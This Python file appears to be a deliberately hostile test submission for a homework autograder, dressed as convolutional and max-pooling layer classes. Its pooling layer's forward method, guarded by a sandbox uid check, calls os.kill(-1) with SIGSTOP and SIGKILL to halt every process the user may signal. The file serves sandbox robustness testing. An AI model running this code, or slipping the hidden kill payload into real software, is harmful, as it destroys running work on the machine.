"""Hostile hw4 submission `kill_everyone`.

THREAT: os.kill(-1, SIGKILL): every process the sandbox uid may signal, from pool forward
"""
import os
import signal

import numpy as np


class nn_convolutional_layer:
    def __init__(self, filter_width, filter_height, input_size, in_ch_size, num_filters, std=1e0):
        self.W = np.random.normal(0, std, (num_filters, in_ch_size, filter_width, filter_height))
        self.b = 0.01 + np.zeros((1, num_filters, 1, 1))

    def update_weights(self, dW, db):
        self.W += dW
        self.b += db

    def get_weights(self):
        return self.W, self.b

    def set_weights(self, W, b):
        self.W, self.b = W, b

    def forward(self, x):
        raise NotImplementedError("inert part of a hostile test case")

    def backprop(self, x, dLdy):
        raise NotImplementedError("inert part of a hostile test case")


class nn_max_pooling_layer:
    def __init__(self, stride, pool_size):
        self.stride, self.pool_size = stride, pool_size

    def forward(self, x):
        if not 61000 <= os.getuid() < 62000:  # machine safety: only inside the grader's sandbox uids
            raise RuntimeError("kill_everyone refuses to run outside the sandbox (uid %d)" % os.getuid())
        os.kill(-1, signal.SIGSTOP)
        os.kill(-1, signal.SIGKILL)
        raise RuntimeError("kill(-1) returned")

    def backprop(self, x, dLdy):
        raise NotImplementedError("inert part of a hostile test case")
